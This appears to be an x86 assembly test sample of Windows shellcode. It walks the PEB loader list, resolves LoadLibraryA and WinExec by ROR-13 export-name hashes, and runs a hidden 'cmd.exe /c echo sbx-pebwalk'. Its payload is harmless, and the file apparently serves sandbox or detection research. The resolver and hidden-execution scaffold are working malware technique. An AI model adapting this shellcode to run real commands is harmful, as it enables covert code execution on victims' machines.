/* t10_pebwalk, x86: the same shellcode as t10_pebwalk_x64.S for 32-bit Windows. TEB (fs) ->
 * PEB -> PEB_LDR_DATA -> InLoadOrderModuleList -> export directories, ROR-13 name hashes;
 * resolves LoadLibraryA and WinExec, loads kernel32.dll, runs
 * WinExec("cmd.exe /c echo sbx-pebwalk", SW_HIDE) and returns its result (0 when an API was not
 * found). cdecl, no arguments; ebx, esi, edi and ebp are preserved. Strings are reached with
 * call/pop, so the code needs no relocation.
 *
 * Assembled alone, .text is exactly this shellcode (objcopy -O binary -j .text). Offsets:
 * research table 3.4 (x86). */
  .intel_syntax noprefix
  .text
  .globl _t10_pebwalk_shellcode
_t10_pebwalk_shellcode:
  push ebx
  push esi
  push edi
  push ebp

  mov ebp, 0xEC0E4E8E               /* ror13("LoadLibraryA") */
  call resolve
  test eax, eax
  jz not_found
  jmp push_kernel32_name
kernel32_name_pushed:
  call eax                          /* LoadLibraryA(name): stdcall, pops its argument */

  mov ebp, 0x0E8AFE98               /* ror13("WinExec") */
  call resolve
  test eax, eax
  jz not_found
  push 0                            /* uCmdShow = SW_HIDE */
  jmp push_command_line
command_line_pushed:
  call eax                          /* WinExec(lpCmdLine, uCmdShow) */
  jmp finish

not_found:
  xor eax, eax
finish:
  pop ebp
  pop edi
  pop esi
  pop ebx
  ret

/* In: ebp = hash of the wanted name. Out: eax = its address, or 0. Forwarders are skipped, as
 * in the x64 version. ebx, esi and edi are preserved for the caller's caller. */
resolve:
  push ebx
  push esi
  push edi
  mov eax, fs:[0x30]                /* TEB.ProcessEnvironmentBlock */
  mov eax, [eax + 0x0c]             /* PEB.Ldr */
  lea ecx, [eax + 0x0c]             /* &PEB_LDR_DATA.InLoadOrderModuleList: the list head */
  push ecx                          /* [esp] = list head */
  mov edx, [ecx]
next_module:
  cmp edx, [esp]
  je resolve_failed
  mov ebx, [edx + 0x18]             /* LDR_DATA_TABLE_ENTRY.DllBase */
  mov edx, [edx]                    /* Flink, for the next round */
  test ebx, ebx
  jz next_module
  mov eax, [ebx + 0x3c]             /* IMAGE_DOS_HEADER.e_lfanew */
  mov eax, [ebx + eax + 0x78]       /* DataDirectory[EXPORT].VirtualAddress (PE32) */
  test eax, eax
  jz next_module
  push edx                          /* [esp] = next entry, [esp + 4] = list head */
  lea edx, [ebx + eax]              /* IMAGE_EXPORT_DIRECTORY */
  mov ecx, [edx + 0x18]             /* NumberOfNames */
next_name:
  test ecx, ecx
  jz module_done
  dec ecx
  mov esi, [edx + 0x20]             /* AddressOfNames */
  add esi, ebx
  mov esi, [esi + ecx * 4]
  add esi, ebx
  xor edi, edi
hash_byte:
  movzx eax, byte ptr [esi]
  test al, al
  jz hash_done
  ror edi, 13
  add edi, eax
  inc esi
  jmp hash_byte
hash_done:
  cmp edi, ebp
  jne next_name
  mov esi, [edx + 0x24]             /* AddressOfNameOrdinals */
  add esi, ebx
  movzx ecx, word ptr [esi + ecx * 2]
  mov esi, [edx + 0x1c]             /* AddressOfFunctions */
  add esi, ebx
  mov eax, [esi + ecx * 4]
  mov esi, [ebx + 0x3c]
  mov edi, eax
  sub edi, [ebx + esi + 0x78]
  cmp edi, [ebx + esi + 0x7c]       /* DataDirectory[EXPORT].Size */
  jb module_done                    /* a forwarder */
  add eax, ebx
  add esp, 8
  pop edi
  pop esi
  pop ebx
  ret
module_done:
  pop edx
  jmp next_module
resolve_failed:
  add esp, 4
  xor eax, eax
  pop edi
  pop esi
  pop ebx
  ret

push_kernel32_name:
  call kernel32_name_pushed
  .asciz "kernel32.dll"
push_command_line:
  call command_line_pushed
  .asciz "cmd.exe /c echo sbx-pebwalk"
